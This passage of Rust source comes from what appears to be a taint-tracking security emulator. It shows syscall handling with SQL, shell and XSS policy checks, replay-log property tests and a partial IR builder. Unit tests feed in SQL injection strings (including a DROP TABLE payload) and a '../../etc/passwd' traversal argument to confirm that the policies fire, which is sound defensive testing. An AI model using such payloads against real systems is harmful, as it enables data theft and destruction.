                m.stats.charge_io(self.io.disk_base);
                Self::trace_io(m, "file_open", 0);
                Self::ret(m, fd);
                Ok(self.io_done(self.io.disk_base))
            }
            sys::FILE_READ => {
                let Some(Some(f)) = self.fds.get(a0 as usize).cloned() else {
                    Self::ret(m, -1);
                    return Ok(SysResult::Continue);
                };
                let content = self.world.files.get(&f.name).cloned().unwrap_or_default();
                let end = (f.pos + a2 as usize).min(content.len());
                let chunk = content[f.pos.min(content.len())..end].to_vec();
                if let Some(Some(f)) = self.fds.get_mut(a0 as usize) {
                    f.pos = end;
                }
                let tainted = self.cfg.source_on(Source::Disk);
                let label = format!("file_read {}", f.name);
                self.write_guest(m, a1, &chunk, tainted, &label)?;
                let charged = self.io.disk_base + self.io.disk_per_byte * chunk.len() as u64;
                m.stats.charge_io(charged);
                Self::trace_io(m, "file_read", chunk.len() as u64);
                Self::ret(m, chunk.len() as i64);
                Ok(self.io_done(charged))
            }
            sys::FILE_WRITE => {
                let Some(Some(f)) = self.fds.get(a0 as usize).cloned() else {
                    Self::ret(m, -1);
                    return Ok(SysResult::Continue);
                };
                if !f.writable {
                    Self::ret(m, -1);
                    return Ok(SysResult::Continue);
                }
                let mut bytes = vec![0u8; a2 as usize];
                m.mem.read_bytes(a1, &mut bytes)?;
                let n = bytes.len() as u64;
                self.world.files.entry(f.name.clone()).or_default().extend_from_slice(&bytes);
                m.stats.charge_io(self.io.disk_base + self.io.disk_per_byte * n);
                Self::trace_io(m, "file_write", n);
                Self::ret(m, n as i64);
                Ok(self.io_done(self.io.disk_base + self.io.disk_per_byte * n))
            }
            sys::FILE_CLOSE => {
                if let Some(slot) = self.fds.get_mut(a0 as usize) {
                    *slot = None;
                }
                Self::ret(m, 0);
                Ok(SysResult::Continue)
            }
            sys::FILE_STAT => {
                let path = m.mem.read_cstr(a0, 4096)?;
                let name = String::from_utf8_lossy(&path).into_owned();
                let size = self.world.files.get(&name).map(|c| c.len() as i64).unwrap_or(-1);
                m.stats.charge_io(self.io.disk_base / 2);
                Self::ret(m, size);
                Ok(self.io_done(self.io.disk_base / 2))
            }
            sys::SQL_EXEC => {
                let q = self.read_tainted(m, a0, a1)?;
                let chain = Self::chain_for(m, "sql_exec", a0, &q);
                if let Some(stop) = self.check(m, Policy::H3, policy::check_h3_sql(&q), chain) {
                    return Ok(stop);
                }
                self.sql_log.push(q.bytes);
                Self::ret(m, 0);
                Ok(SysResult::Continue)
            }
            sys::SYSTEM => {
                let c = self.read_tainted(m, a0, a1)?;
                let chain = Self::chain_for(m, "system", a0, &c);
                if let Some(stop) = self.check(m, Policy::H4, policy::check_h4_shell(&c), chain) {
                    return Ok(stop);
                }
                self.shell_log.push(c.bytes);
                Self::ret(m, 0);
                Ok(SysResult::Continue)
            }
            sys::HTML_OUT => {
                let h = self.read_tainted(m, a0, a1)?;
                let chain = Self::chain_for(m, "html_out", a0, &h);
                if let Some(stop) = self.check(m, Policy::H5, policy::check_h5_xss(&h), chain) {
                    return Ok(stop);
                }
                self.html_output.extend_from_slice(&h.bytes);
                let charged = self.io.net_base / 4 + self.io.net_per_byte * a1;
                m.stats.charge_io(charged);
                Self::ret(m, a1 as i64);
                Ok(self.io_done(charged))
            }
            sys::BRK => {
                let size = a0.div_ceil(16) * 16;
                let base = self.heap_cursor;
                m.mem.map_range(base, size.max(16));
                self.heap_cursor += size.max(16);
                Self::ret(m, base as i64);
                Ok(SysResult::Continue)
            }
            sys::GET_ARG => {
                match self.world.args.get(a0 as usize).cloned() {
                    Some(arg) => {
                        let n = arg.len().min(a2 as usize);
                        let chunk = arg[..n].to_vec();
                        let tainted = self.cfg.source_on(Source::Args);
                        let label = format!("arg#{a0}");
                        self.write_guest(m, a1, &chunk, tainted, &label)?;
                        Self::ret(m, n as i64);
                    }
                    None => Self::ret(m, -1),
                }
                Ok(SysResult::Continue)
            }
            sys::DEBUG_TAINT => {
                let any = self.shadow.any_tainted(a0, a1);
                Self::ret(m, i64::from(any));
                Ok(SysResult::Continue)
            }
            sys::ALERT => {
                let provenance = m.taint_observer_mut().and_then(|o| {
                    let chain = o.guard_chain().map(|c| format!("{c} → alert"));
                    if let Some(c) = &chain {
                        o.record_sink_event("GUARD", c);
                    }
                    chain
                });
                let v = Violation {
                    policy: "GUARD".to_string(),
                    message: "chk.s guard: tainted value reached critical use".to_string(),
                    ip: m.cpu.ip,
                    provenance,
                };
                self.record(v.clone());
                // The guard alarm has no `Policy` value: the default action
                // governs it.
                Ok(self.dispose(m, self.cfg.default_action(), v))
            }
            sys::CLOCK => {
                Self::ret(m, m.stats.cycles as i64);
                Ok(SysResult::Continue)
            }
            other => {
                Ok(SysResult::Stop(Exit::Fault(Fault::BadSyscall { num: other, ip: m.cpu.ip })))
            }
        }
    }

    /// Cross-checks the guest bitmap against the host shadow over a byte
    /// range; returns the first disagreeing address. Test-suite helper for
    /// detecting taint drift (false positives/negatives in the §5.2 sense).
    pub fn shadow_mismatch(&self, m: &mut Machine, addr: u64, len: u64) -> Option<u64> {
        let gran = self.gran?;
        for i in 0..len {
            let a = addr + i;
            let Ok(loc) = tag_location(a, gran) else { continue };
            let Ok(byte) = m.mem.read_int(loc.byte_addr, 1) else { continue };
            let guest = byte & u64::from(loc.mask) != 0;
            let host = match gran {
                Granularity::Byte => self.shadow.is_tainted(a),
                // One word-level bit covers 8 bytes: the guest bit should be
                // set iff any byte of the word is tainted in ground truth.
                Granularity::Word => self.shadow.any_tainted(a & !7, 8),
            };
            if guest != host {
                return Some(a);
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use shift_machine::Image;

    fn machine() -> Machine {
        let image = Image::builder()
            .code(vec![shift_isa::Insn::new(shift_isa::Op::Halt)])
            .map(layout::DATA_BASE, 0x10000)
            .build();
        Machine::new(&image)
    }

    fn rt(world: World) -> Runtime {
        Runtime::new(TaintConfig::default_secure(), world, Some(Granularity::Byte))
    }

    #[test]
    fn write_guest_sets_bitmap_and_shadow() {
        let mut m = machine();
        let mut r = rt(World::new());
        let addr = layout::GLOBALS_BASE;
        r.write_guest(&mut m, addr, b"evil", true, "test").unwrap();
        assert!(r.shadow.all_tainted(addr, 4));
        assert_eq!(r.shadow_mismatch(&mut m, addr, 4), None);
        let t = r.read_tainted(&mut m, addr, 4).unwrap();
        assert_eq!(t.bytes, b"evil");
        assert!(t.taint.iter().all(|&b| b));
        // Overwrite with clean data: taint must clear.
        r.write_guest(&mut m, addr, b"ok", false, "test").unwrap();
        let t2 = r.read_tainted(&mut m, addr, 2).unwrap();
        assert!(t2.taint.iter().all(|&b| !b));
    }

    #[test]
    fn uninstrumented_runtime_sees_no_taint() {
        let mut m = machine();
        let mut r = Runtime::new(TaintConfig::default_secure(), World::new(), None);
        let addr = layout::GLOBALS_BASE;
        r.write_guest(&mut m, addr, b"evil", true, "test").unwrap();
        let t = r.read_tainted(&mut m, addr, 4).unwrap();
        assert!(t.taint.iter().all(|&b| !b), "no bitmap ⇒ sinks are blind");
        // …but ground truth still knows.
        assert!(r.shadow.all_tainted(addr, 4));
    }

    #[test]
    fn word_granularity_shadow_check_is_word_coarse() {
        let mut m = machine();
        let mut r =
            Runtime::new(TaintConfig::default_secure(), World::new(), Some(Granularity::Word));
        let addr = layout::GLOBALS_BASE;
        // Taint one byte: the word bit covers all 8.
        r.write_guest(&mut m, addr, b"x", true, "test").unwrap();
        assert_eq!(r.shadow_mismatch(&mut m, addr, 8), None);
        let t = r.read_tainted(&mut m, addr, 8).unwrap();
        assert!(t.taint.iter().all(|&b| b), "word-level tags are coarse");
    }

    #[test]
    fn syscall_net_read_taints_buffer() {
        let mut m = machine();
        let mut r = rt(World::new().net("GET /x")).with_io(IoCostModel::SERVER);
        let buf = layout::GLOBALS_BASE;
        m.cpu.set_gpr_val(Gpr::arg(0), buf);
        m.cpu.set_gpr_val(Gpr::arg(1), 64);
        let res = r.syscall(&mut m, sys::NET_READ);
        assert_eq!(res, SysResult::Continue);
        assert_eq!(m.cpu.gpr(Gpr::RET).value, 6);
        assert!(r.shadow.all_tainted(buf, 6));
        assert!(m.stats.io_cycles > 0);
    }

    #[test]
    fn file_round_trip_and_stat() {
        let mut m = machine();
        let mut r = rt(World::new().file("data.txt", b"hello".to_vec()));
        let path = layout::GLOBALS_BASE;
        let buf = layout::GLOBALS_BASE + 256;
        m.mem.write_bytes(path, b"data.txt\0").unwrap();

        m.cpu.set_gpr_val(Gpr::arg(0), path);
        m.cpu.set_gpr_val(Gpr::arg(1), 0);
        assert_eq!(r.syscall(&mut m, sys::FILE_OPEN), SysResult::Continue);
        let fd = m.cpu.gpr(Gpr::RET).value;

        m.cpu.set_gpr_val(Gpr::arg(0), fd);
        m.cpu.set_gpr_val(Gpr::arg(1), buf);
        m.cpu.set_gpr_val(Gpr::arg(2), 64);
        assert_eq!(r.syscall(&mut m, sys::FILE_READ), SysResult::Continue);
        assert_eq!(m.cpu.gpr(Gpr::RET).value, 5);
        let mut got = [0u8; 5];
        m.mem.read_bytes(buf, &mut got).unwrap();
        assert_eq!(&got, b"hello");
        assert!(r.shadow.all_tainted(buf, 5), "disk is a taint source by default");

        m.cpu.set_gpr_val(Gpr::arg(0), path);
        assert_eq!(r.syscall(&mut m, sys::FILE_STAT), SysResult::Continue);
        assert_eq!(m.cpu.gpr(Gpr::RET).value, 5);
    }

    #[test]
    fn sql_sink_fires_on_tainted_quote() {
        let mut m = machine();
        let mut r = rt(World::new());
        let q = layout::GLOBALS_BASE;
        r.write_guest(&mut m, q, b"SELECT 1 OR '1'='1'", true, "test").unwrap();
        m.cpu.set_gpr_val(Gpr::arg(0), q);
        m.cpu.set_gpr_val(Gpr::arg(1), 19);
        let res = r.syscall(&mut m, sys::SQL_EXEC);
        match res {
            SysResult::Stop(Exit::Violation(v)) => assert_eq!(v.policy, "H3"),
            other => panic!("expected H3 violation, got {other:?}"),
        }
        assert!(r.sql_log.is_empty(), "the statement must not execute");
    }

    #[test]
    fn sql_sink_allows_clean_query() {
        let mut m = machine();
        let mut r = rt(World::new());
        let q = layout::GLOBALS_BASE;
        r.write_guest(&mut m, q, b"SELECT 'safe'", false, "test").unwrap();
        m.cpu.set_gpr_val(Gpr::arg(0), q);
        m.cpu.set_gpr_val(Gpr::arg(1), 13);
        assert_eq!(r.syscall(&mut m, sys::SQL_EXEC), SysResult::Continue);
        assert_eq!(r.sql_log.len(), 1);
    }

    #[test]
    fn disarmed_policy_does_not_fire() {
        let mut m = machine();
        let mut cfg = TaintConfig::default_secure();
        cfg.set_policy(Policy::H3, false);
        let mut r = Runtime::new(cfg, World::new(), Some(Granularity::Byte));
        let q = layout::GLOBALS_BASE;
        r.write_guest(&mut m, q, b"x';DROP TABLE t;--", true, "test").unwrap();
        m.cpu.set_gpr_val(Gpr::arg(0), q);
        m.cpu.set_gpr_val(Gpr::arg(1), 18);
        assert_eq!(r.syscall(&mut m, sys::SQL_EXEC), SysResult::Continue);
    }

    #[test]
    fn brk_grows_heap() {
        let mut m = machine();
        let mut r = rt(World::new());
        m.cpu.set_gpr_val(Gpr::arg(0), 100);
        assert_eq!(r.syscall(&mut m, sys::BRK), SysResult::Continue);
        let p1 = m.cpu.gpr(Gpr::RET).value;
        m.cpu.set_gpr_val(Gpr::arg(0), 100);
        assert_eq!(r.syscall(&mut m, sys::BRK), SysResult::Continue);
        let p2 = m.cpu.gpr(Gpr::RET).value;
        assert!(p2 >= p1 + 100);
        // Memory is usable.
        m.mem.write_int(p1, 8, 42).unwrap();
        assert_eq!(m.mem.read_int(p1, 8).unwrap(), 42);
    }

    #[test]
    fn get_arg_taints_when_configured() {
        let mut m = machine();
        let mut r = rt(World::new().arg("--file=../../etc/passwd"));
        let buf = layout::GLOBALS_BASE;
        m.cpu.set_gpr_val(Gpr::arg(0), 0);
        m.cpu.set_gpr_val(Gpr::arg(1), buf);
        m.cpu.set_gpr_val(Gpr::arg(2), 256);
        assert_eq!(r.syscall(&mut m, sys::GET_ARG), SysResult::Continue);
        assert!(m.cpu.gpr(Gpr::RET).value > 0);
        assert!(r.shadow.any_tainted(buf, 5));
        // Missing arg returns -1.
        m.cpu.set_gpr_val(Gpr::arg(0), 9);
        assert_eq!(r.syscall(&mut m, sys::GET_ARG), SysResult::Continue);
        assert_eq!(m.cpu.gpr(Gpr::RET).value as i64, -1);
    }

    #[test]
    fn unknown_syscall_faults() {
        let mut m = machine();
        let mut r = rt(World::new());
        match r.syscall(&mut m, 9999) {
            SysResult::Stop(Exit::Fault(Fault::BadSyscall { num: 9999, .. })) => {}
            other => panic!("expected BadSyscall, got {other:?}"),
        }
    }
}
