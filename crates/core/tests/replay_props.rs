//! Property tests for the replay-log serialization schema.
//!
//! The log is the repo's only durable artifact — saved reproducers must
//! survive across sessions — so the serde layer gets the strongest guard we
//! can give it: arbitrary logs (binary request payloads, every injection
//! shape, every mode key) must round-trip through render → parse exactly,
//! and malformed or mislabeled documents must fail to parse, never panic.

use proptest::prelude::*;
use shift_core::replay::{
    mode_from_key, mode_key, ConnectionLog, Expected, OpenLoopLog, ReplayLog,
};
use shift_core::{IoCostModel, Mode, Source, TaintConfig, ViolationAction, World};
use shift_isa::Gpr;
use shift_machine::{Fault, Injection, NatFaultKind};

const MODE_KEYS: [&str; 7] =
    ["plain", "byte", "word", "byte-enhanced", "word-enhanced", "shadow-byte", "shadow-word"];

fn mode_strategy() -> impl Strategy<Value = Mode> {
    (0usize..MODE_KEYS.len()).prop_map(|i| mode_from_key(MODE_KEYS[i]).unwrap())
}

fn injection_strategy() -> impl Strategy<Value = Injection> {
    prop_oneof![
        (0usize..Gpr::COUNT).prop_map(|i| Injection::FlipNat { reg: Gpr::from_index(i) }),
        (any::<u64>(), any::<u8>()).prop_map(|(addr, xor)| Injection::CorruptByte { addr, xor }),
        (any::<u64>(), any::<usize>())
            .prop_map(|(addr, ip)| Injection::Fault(Fault::Unmapped { addr, ip })),
        (any::<u64>(), 1u64..16, any::<usize>())
            .prop_map(|(addr, size, ip)| Injection::Fault(Fault::Unaligned { addr, size, ip })),
        (0usize..3, any::<usize>()).prop_map(|(k, ip)| {
            let kind =
                [NatFaultKind::StoreValue, NatFaultKind::LoadAddress, NatFaultKind::StoreAddress]
                    [k];
            Injection::Fault(Fault::NatConsumption { kind, ip })
        }),
    ]
}

fn payload() -> impl Strategy<Value = Vec<u8>> {
    prop::collection::vec(any::<u8>(), 0..48)
}

fn connection_strategy() -> impl Strategy<Value = ConnectionLog> {
    (
        prop::collection::vec(payload(), 0..4),
        prop::collection::vec((any::<u64>(), injection_strategy()), 0..3),
    )
        .prop_map(|(requests, injections)| ConnectionLog { requests, injections })
}

fn expected_strategy() -> impl Strategy<Value = Expected> {
    const EXITS: [&str; 5] = [
        "halted:0",
        "halted:3",
        "violation:H3@412",
        "fault:unmapped address 0x40 at ip 7",
        "fuel-exhausted",
    ];
    const POLICIES: [&str; 3] = ["H2", "H3", "L1"];
    (
        0usize..EXITS.len(),
        any::<u64>(),
        any::<u64>(),
        any::<u64>(),
        (0u64..8, 0u64..8, 0u64..8, 0u64..8),
        prop::collection::vec(0usize..POLICIES.len(), 0..3),
    )
        .prop_map(|(exit, state_digest, cycles, instructions, (d, s, r, dr), v)| Expected {
            exit: EXITS[exit].to_string(),
            state_digest,
            cycles,
            instructions,
            delivered: d,
            served: s,
            recovered: r,
            dropped: dr,
            violations: v.into_iter().map(|i| POLICIES[i].to_string()).collect(),
        })
}

fn world_strategy() -> impl Strategy<Value = World> {
    const NAMES: [&str; 4] = ["/www/index.html", "/etc/secret", "data.bin", "a b\"c\\d"];
    (
        prop::collection::vec((0usize..NAMES.len(), payload()), 0..3),
        prop::collection::vec(payload(), 0..3),
        prop::collection::vec(payload(), 0..2),
        prop::collection::vec(payload(), 0..2),
    )
        .prop_map(|(files, net, kbd, args)| {
            let mut w = World::new();
            for (i, data) in files {
                w.files.insert(NAMES[i].to_string(), data);
            }
            w.net_input = net.into();
            w.kbd_input = kbd.into();
            w.args = args;
            w
        })
}

fn config_strategy() -> impl Strategy<Value = TaintConfig> {
    (0usize..3, any::<bool>()).prop_map(|(a, kbd_tainted)| {
        let action = [
            ViolationAction::Terminate,
            ViolationAction::LogAndContinue,
            ViolationAction::AbortTransaction,
        ][a];
        let mut cfg = TaintConfig::default_secure();
        cfg.set_default_action(action);
        cfg.set_source(Source::Keyboard, kbd_tainted);
        cfg
    })
}

fn open_loop_strategy() -> impl Strategy<Value = OpenLoopLog> {
    const SPECS: [&str; 3] = ["poisson:500", "bursty:250:16", "diurnal:100:0.8"];
    (
        0usize..SPECS.len(),
        prop::collection::vec(any::<u64>(), 0..6),
        (1usize..16, 1usize..64, 1usize..32, 0u64..1_000_000),
        (any::<u64>(), any::<u64>(), any::<u64>()),
    )
        .prop_map(
            |(
                spec,
                arrivals,
                (workers, accept_cap, max_resident, quantum),
                (completed, shed, wall_cycles),
            )| OpenLoopLog {
                spec: SPECS[spec].to_string(),
                arrivals,
                workers,
                accept_cap,
                max_resident,
                quantum,
                completed,
                shed,
                wall_cycles,
            },
        )
}

fn log_strategy() -> impl Strategy<Value = ReplayLog> {
    const PROGRAMS: [&str; 3] = ["apache", "chaos-sql", "some-guest"];
    (
        (
            0usize..PROGRAMS.len(),
            mode_strategy(),
            config_strategy(),
            any::<bool>(),
            any::<u64>(),
            any::<u64>(),
            1usize..9,
            (any::<u64>(), any::<u64>()),
        ),
        world_strategy(),
        // Generating (inputs, outcome) pairs keeps `connections` and
        // `expected` the same length without needing flat-map.
        prop::collection::vec((connection_strategy(), expected_strategy()), 1..4),
        // The vendored proptest has no `prop::option`; a bool flag plays
        // that role.
        (any::<bool>(), open_loop_strategy()),
    )
        .prop_map(
            |(
                (program, mode, config, server_io, insn_limit, fuel, workers, (seed, digest)),
                base,
                pairs,
                (with_open_loop, open_loop),
            )| {
                let (connections, expected) = pairs.into_iter().unzip();
                ReplayLog {
                    program: PROGRAMS[program].to_string(),
                    mode,
                    config,
                    io: if server_io { IoCostModel::SERVER } else { IoCostModel::FREE },
                    insn_limit,
                    fuel,
                    workers,
                    seed,
                    image_digest: digest,
                    base,
                    connections,
                    expected,
                    open_loop: with_open_loop.then_some(open_loop),
                }
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Arbitrary logs — binary payloads, every injection shape, every mode —
    /// survive render → parse exactly.
    #[test]
    fn replay_log_round_trips_through_json(log in log_strategy()) {
        let text = log.render();
        let back = ReplayLog::parse(&text).expect("rendered log parses");
        prop_assert_eq!(&back, &log);
        // Rendering is deterministic, so the artifact is diff-stable.
        prop_assert_eq!(back.render(), text);
    }

    /// Arbitrary junk never panics the parser — it errors.
    #[test]
    fn parse_never_panics_on_junk(junk in prop::collection::vec(any::<u8>(), 0..200)) {
        let text = String::from_utf8_lossy(&junk);
        prop_assert!(ReplayLog::parse(&text).is_err());
    }

    /// Truncating a valid document anywhere must fail cleanly, not panic or
    /// yield a half-log.
    #[test]
    fn truncated_logs_are_rejected(log in log_strategy(), pct in 5u64..95) {
        let text = log.render();
        let cut = (text.len() as u64 * pct / 100) as usize;
        let mut end = cut.min(text.len().saturating_sub(1));
        while !text.is_char_boundary(end) {
            end -= 1;
        }
        prop_assert!(ReplayLog::parse(&text[..end]).is_err());
    }
}

#[test]
fn mode_keys_cover_every_mode() {
    for key in MODE_KEYS {
        let mode = mode_from_key(key).unwrap();
        assert_eq!(mode_key(mode), key);
    }
    assert!(mode_from_key("nonsense").is_none());
}

#[test]
fn wrong_kind_and_future_schema_are_rejected() {
    let log = ReplayLog {
        program: "apache".into(),
        mode: mode_from_key("byte").unwrap(),
        config: TaintConfig::default_secure(),
        io: IoCostModel::FREE,
        insn_limit: 1,
        fuel: 1,
        workers: 1,
        seed: 0,
        image_digest: 0,
        base: World::new(),
        connections: vec![ConnectionLog::default()],
        expected: vec![],
        open_loop: None,
    };
    let text = log.render();
    let wrong_kind = text.replacen("shift-replay-log", "something-else", 1);
    assert!(ReplayLog::parse(&wrong_kind).is_err(), "kind must be checked");
    let future = text.replacen("\"schema_version\": 1", "\"schema_version\": 999", 1);
    assert!(ReplayLog::parse(&future).is_err(), "future schema must be rejected");
}
