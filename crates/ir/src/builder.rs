//! Structured program/function builders.
//!
//! Guest programs (workloads, attacks, the guest libc) are written in Rust
//! against these builders rather than through a textual frontend. The
//! builders emit plain CFG IR; all structure (`if`, `while`, `for`,
//! `break`/`continue`) is desugared immediately.

use shift_isa::{AluOp, CmpRel, ExtKind, MemSize};

use crate::inst::{Inst, Rhs, Terminator};
use crate::program::{Block, BlockId, Function, Global, GlobalId, Local, LocalId, Program, VReg};
use crate::validate::{validate, ValidateError};

/// A mutable variable handle. It is simply a virtual register that the
/// builder re-assigns with `Mov`; the register allocator keeps hot variables
/// in machine registers, like GCC pseudos at `-O3`.
pub type Var = VReg;

/// Builds a [`Program`]: globals plus functions.
#[derive(Debug, Default)]
pub struct ProgramBuilder {
    globals: Vec<Global>,
    funcs: Vec<Function>,
}

impl ProgramBuilder {
    /// Creates an empty builder.
    pub fn new() -> ProgramBuilder {
        ProgramBuilder::default()
    }

    /// Adds a global of `size` bytes initialized with `init` (zero-padded).
    ///
    /// # Panics
    ///
    /// Panics if `init` is longer than `size`.
    pub fn global(&mut self, name: impl Into<String>, size: u64, init: Vec<u8>) -> GlobalId {
        assert!(init.len() as u64 <= size, "initializer longer than global");
        let id = GlobalId(self.globals.len() as u32);
        self.globals.push(Global { name: name.into(), size, init });
        id
    }

    /// Adds a NUL-terminated string global.
    pub fn global_str(&mut self, name: impl Into<String>, s: &str) -> GlobalId {
        let mut bytes = s.as_bytes().to_vec();
        bytes.push(0);
        let size = bytes.len() as u64;
        self.global(name, size, bytes)
    }

    /// Adds a zero-initialized global.
    pub fn global_zeroed(&mut self, name: impl Into<String>, size: u64) -> GlobalId {
        self.global(name, size, Vec::new())
    }

    /// Defines a function with `params` parameters; parameter `i` is
    /// available as `VReg(i)` (see [`FnBuilder::param`]).
    ///
    /// # Panics
    ///
    /// Panics if `params > 8` (the ABI passes up to 8 register arguments).
    pub fn func(
        &mut self,
        name: impl Into<String>,
        params: usize,
        build: impl FnOnce(&mut FnBuilder),
    ) {
        assert!(params <= 8, "at most 8 register parameters");
        let mut fb = FnBuilder {
            blocks: vec![Block::default()],
            cur: BlockId(0),
            vregs: params as u32,
            locals: Vec::new(),
            params,
            loops: Vec::new(),
        };
        build(&mut fb);
        // Fall off the end of the body ⇒ implicit `ret void`.
        if fb.blocks[fb.cur.index()].term.is_none() {
            fb.blocks[fb.cur.index()].term = Some(Terminator::Ret(None));
        }
        self.funcs.push(Function {
            name: name.into(),
            params,
            blocks: fb.blocks,
            locals: fb.locals,
            vregs: fb.vregs,
        });
    }

    /// Finalizes and validates the program.
    ///
    /// # Errors
    ///
    /// Returns a [`ValidateError`] describing the first structural problem.
    pub fn build(self) -> Result<Program, ValidateError> {
        let program = Program { funcs: self.funcs, globals: self.globals };
        validate(&program)?;
        Ok(program)
    }
}

/// Builds one function body. Obtained through [`ProgramBuilder::func`].
#[derive(Debug)]
pub struct FnBuilder {
    blocks: Vec<Block>,
    cur: BlockId,
    vregs: u32,
    locals: Vec<Local>,
    params: usize,
    /// `(continue_target, break_target)` for each enclosing loop.
    loops: Vec<(BlockId, BlockId)>,
}

impl FnBuilder {
    /// The `i`-th parameter.
    ///
    /// # Panics
    ///
    /// Panics if `i` is out of range.
    pub fn param(&self, i: usize) -> VReg {
        assert!(i < self.params, "parameter index out of range");
        VReg(i as u32)
    }

    /// Allocates a fresh virtual register.
    pub fn fresh(&mut self) -> VReg {
        let v = VReg(self.vregs);
        self.vregs += 1;
        v
    }

    /// Identity helper: makes closures that must *return* a register read
    /// naturally (`f.use_of(i)`).
    pub fn use_of(&self, v: VReg) -> VReg {
        v
    }

    fn ensure_open(&mut self) {
        if self.blocks[self.cur.index()].term.is_some() {
            // Code after ret/break: give it an (unreachable) home.
            self.cur = self.new_block();
        }
    }

    /// Appends a raw instruction to the current block.
    pub fn emit(&mut self, inst: Inst) {
        self.ensure_open();
        self.blocks[self.cur.index()].insts.push(inst);
    }

    fn terminate(&mut self, term: Terminator) {
        self.ensure_open();
        self.blocks[self.cur.index()].term = Some(term);
    }

    fn new_block(&mut self) -> BlockId {
        let id = BlockId(self.blocks.len() as u32);
        self.blocks.push(Block::default());
        id
    }

    fn switch_to(&mut self, b: BlockId) {
        self.cur = b;
    }

    fn seal_jmp(&mut self, target: BlockId) {
        if self.blocks[self.cur.index()].term.is_none() {
            self.blocks[self.cur.index()].term = Some(Terminator::Jmp(target));
        }
    }

    // ----- values ---------------------------------------------------------

    /// `dst = value` into a fresh register.
    pub fn iconst(&mut self, value: i64) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::Const { dst, value });
        dst
    }

    /// Re-assigns an existing register: `dst = src`.
    pub fn assign(&mut self, dst: VReg, src: VReg) {
        self.emit(Inst::Mov { dst, src });
    }

    /// Re-assigns an existing register with a constant.
    pub fn assign_imm(&mut self, dst: VReg, value: i64) {
        self.emit(Inst::Const { dst, value });
    }

    /// `fresh = a op b`.
    pub fn bin(&mut self, op: AluOp, a: VReg, b: VReg) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::Bin { op, dst, a, b });
        dst
    }

    /// `fresh = a op imm`.
    pub fn bini(&mut self, op: AluOp, a: VReg, imm: i64) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::BinI { op, dst, a, imm });
        dst
    }

    /// `fresh = src` with the taint tag cleared — marks a value as
    /// bounds-checked so it may be used as a table index without tripping
    /// policy L1 (see [`Inst::Sanitize`]).
    pub fn sanitize(&mut self, src: VReg) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::Sanitize { dst, src });
        dst
    }

    /// Guards a critical value: if its taint tag is set at runtime, a
    /// user-level alert fires (compiles to `chk.s`; see [`Inst::Guard`]).
    pub fn guard(&mut self, src: VReg) {
        self.emit(Inst::Guard { src });
    }

    /// `fresh = (a rel rhs) ? 1 : 0`.
    pub fn set_cmp(&mut self, rel: CmpRel, a: VReg, rhs: Rhs) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::SetCmp { rel, dst, a, rhs });
        dst
    }

    // ----- memory ---------------------------------------------------------

    /// Typed load with explicit size/extension.
    pub fn load(&mut self, size: MemSize, ext: ExtKind, addr: VReg, offset: i64) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::Load { size, ext, dst, addr, offset });
        dst
    }

    /// Typed store.
    pub fn store(&mut self, size: MemSize, src: VReg, addr: VReg, offset: i64) {
        self.emit(Inst::Store { size, src, addr, offset });
    }

    /// Stack slot of `size` bytes.
    pub fn local(&mut self, size: u64) -> LocalId {
        let id = LocalId(self.locals.len() as u32);
        self.locals.push(Local { size });
        id
    }

    /// `fresh = &local`.
    pub fn local_addr(&mut self, local: LocalId) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::LocalAddr { dst, local });
        dst
    }

    /// `fresh = &global`.
    pub fn global_addr(&mut self, global: GlobalId) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::GlobalAddr { dst, global });
        dst
    }

    // ----- calls ----------------------------------------------------------

    /// Calls `callee` and captures its return value.
    pub fn call(&mut self, callee: impl Into<String>, args: &[VReg]) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::Call { dst: Some(dst), callee: callee.into(), args: args.to_vec() });
        dst
    }

    /// Calls `callee`, discarding any return value.
    pub fn call_void(&mut self, callee: impl Into<String>, args: &[VReg]) {
        self.emit(Inst::Call { dst: None, callee: callee.into(), args: args.to_vec() });
    }

    /// Runtime call capturing the result.
    pub fn syscall(&mut self, num: u32, args: &[VReg]) -> VReg {
        let dst = self.fresh();
        self.emit(Inst::Syscall { dst: Some(dst), num, args: args.to_vec() });
        dst
    }

    /// Runtime call, result discarded.
    pub fn syscall_void(&mut self, num: u32, args: &[VReg]) {
        self.emit(Inst::Syscall { dst: None, num, args: args.to_vec() });
    }

    // ----- control flow ---------------------------------------------------

    /// Returns from the function.
    pub fn ret(&mut self, val: Option<VReg>) {
        self.terminate(Terminator::Ret(val));
    }

    /// `if (a rel rhs) { then_ }`.
    pub fn if_cmp(&mut self, rel: CmpRel, a: VReg, rhs: Rhs, then_: impl FnOnce(&mut Self)) {
        let then_b = self.new_block();
        let cont = self.new_block();
        self.terminate(Terminator::Br { rel, a, rhs, then_bb: then_b, else_bb: cont });
        self.switch_to(then_b);
        then_(self);
        self.seal_jmp(cont);
        self.switch_to(cont);
    }

    /// `if (a rel rhs) { then_ } else { else_ }`.
    pub fn if_else_cmp(
        &mut self,
        rel: CmpRel,
        a: VReg,
        rhs: Rhs,
        then_: impl FnOnce(&mut Self),
        else_: impl FnOnce(&mut Self),
    ) {
        let then_b = self.new_block();
        let else_b = self.new_block();
        let cont = self.new_block();
        self.terminate(Terminator::Br { rel, a, rhs, then_bb: then_b, else_bb: else_b });
        self.switch_to(then_b);
        then_(self);
        self.seal_jmp(cont);
        self.switch_to(else_b);
        else_(self);
        self.seal_jmp(cont);
        self.switch_to(cont);
    }

    /// `while (cond) { body }`. The condition closure runs once to *emit*
    /// the condition code into the loop header (it executes every
    /// iteration). `break`/`continue` inside `body` target this loop.
    pub fn while_cmp(
        &mut self,
        cond: impl FnOnce(&mut Self) -> (CmpRel, VReg, Rhs),
        body: impl FnOnce(&mut Self),
    ) {
        let header = self.new_block();
        let body_b = self.new_block();
        let exit = self.new_block();
        self.seal_jmp(header);
        self.switch_to(header);
        let (rel, a, rhs) = cond(self);
        self.terminate(Terminator::Br { rel, a, rhs, then_bb: body_b, else_bb: exit });
        self.loops.push((header, exit));
        self.switch_to(body_b);
        body(self);
        self.seal_jmp(header);
        self.loops.pop();
        self.switch_to(exit);
